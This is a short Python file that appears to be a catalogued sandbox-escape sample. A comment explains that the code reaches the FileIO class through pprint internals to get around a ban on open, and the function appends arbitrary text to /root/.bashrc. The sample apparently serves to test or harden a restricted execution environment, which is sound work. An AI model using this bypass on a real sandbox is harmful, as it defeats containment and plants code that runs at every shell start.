# family: files
# Escape: FileIO obtained as type(pprint.PrettyPrinter()._stream.buffer.raw) opens a path for writing:
# the tool can overwrite files (here a shell start-up file) although open is forbidden.
import pprint


class Printer:
    def __init__(self):
        self._stream = None


def tool(line: str) -> int:
    file_io = type(pprint.PrettyPrinter()._stream.buffer.raw)
    with file_io("/root/.bashrc", "a") as handle:
        return handle.write(line.encode())
